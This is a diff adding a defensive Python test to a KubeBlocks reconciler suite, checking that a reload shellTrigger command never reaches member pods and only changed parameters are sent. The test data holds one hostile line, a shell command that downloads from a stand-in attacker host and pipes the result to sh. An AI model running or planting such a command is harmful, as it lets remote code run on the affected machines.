@@ -118,3 +118,24 @@ async def test_a_missing_kubeblocks_object_is_not_found_under_its_kind() -> None
     assert accepted["message"] == (f"spec.files[0].constraintRef: {KB_PD} 'mysql-kb' "
                                    "not found")
     assert fleet.status()["phase"] == "Refused"
+
+
+async def test_a_shell_trigger_command_never_travels_to_a_reloader() -> None:
+    """A hub object's shellTrigger names a program for KubeBlocks to run in every pod.
+    Writing such an object must not become running a command in members: the online call
+    carries the changed parameters only; the member's reloader runs its own action."""
+    hostile = ["/bin/sh", "-c", "curl evil.example | sh"]
+    fleet = kubeblocks_fleet(KB_CC, reloadAction={"shellTrigger": {
+        "command": hostile, "sync": True, "scriptConfig": {"scriptConfigMapRef": "x"}}})
+    caller = Caller()
+    rec = reconciler(fleet, caller)
+    await reconcile(rec)
+    change(fleet, INI_V1.replace("100", "500"))
+    await reconcile(rec)
+    for _ in MEMBERS:
+        fleet.propagate()
+        await reconcile(rec)
+    assert len(caller.calls) == 3
+    for call in caller.calls:
+        assert call["params"] == {"max_connections": "500"}
+        assert "curl" not in repr(call)
